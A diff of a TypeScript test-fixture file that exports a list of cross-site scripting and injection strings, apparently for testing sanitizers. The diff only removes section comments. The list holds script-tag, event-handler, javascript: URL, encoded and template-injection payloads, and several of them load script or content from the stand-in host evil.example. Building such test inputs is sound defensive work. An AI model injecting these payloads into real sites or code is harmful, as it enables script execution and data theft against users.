@@ -1,9 +1,5 @@
-/**
- * Texts that run as script, load from elsewhere, or break a page apart where they are taken for more than text: markup,
- * attribute and URL contexts, templates, JSON and script contexts, filters' blind spots, Unicode. One attempt each.
- */
+/** Texts that run scripts, load resources or break pages if used as more than text, one attempt each. */
 export const hostileTexts: readonly string[] = [
-  // Script elements
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<script src=//evil.example/x.js></script>',
@@ -20,7 +16,6 @@ export const hostileTexts: readonly string[] = [
   '<script>setTimeout("alert(1)")</script>',
   '<script>location="javascript:alert(1)"</script>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  // Breaking out of what is around it
   '</script><script>alert(1)</script>',
   '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
@@ -37,7 +32,6 @@ export const hostileTexts: readonly string[] = [
   '" autofocus onfocus=alert(1) x="',
   '"/><svg/onload=alert(1)>',
   '\\"><img src=x onerror=alert(1)>',
-  // Handlers
   '<img src=x onerror=alert(1)>',
   '<img src="x" onerror="alert(1)">',
   '<img src=`x` onerror=alert(1)>',
@@ -78,7 +72,6 @@ export const hostileTexts: readonly string[] = [
   '<input type=image src=x onerror=alert(1)>',
   '<object data=x onerror=alert(1)></object>',
   '<link rel=stylesheet href=https://evil.example/x.css onload=alert(1)>',
-  // Addresses
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
   '\u0001javascript:alert(1)',
@@ -99,7 +92,6 @@ export const hostileTexts: readonly string[] = [
   '<a href=javascript&colon;alert(1)>x</a>',
   '[x](javascript:alert(1))',
   '![x](https://evil.example/x.png)',
-  // Frames, forms, and other things that load or lead away
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<iframe src=https://evil.example/></iframe>',
@@ -121,7 +113,6 @@ export const hostileTexts: readonly string[] = [
   '<img src=https://evil.example/pixel.png>',
   '<input type=hidden name=id><form id=x><input name=parentNode></form>',
   '<a id=admin></a><a id=admin name=run href="https://evil.example/">x</a>',
-  // Encoded and half encoded
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&#60;script&#62;alert(1)&#60;/script&#62;',
   '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
@@ -136,7 +127,6 @@ export const hostileTexts: readonly string[] = [
   '\u202e>tpircs/<)1(trela>tpircs<',
   'x\ufeff<script>alert(1)</script>',
   '\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007',
-  // Other languages it may be taken for
   '{{constructor.constructor("alert(1)")()}}',
   '${alert(1)}',
   '#{alert(1)}',
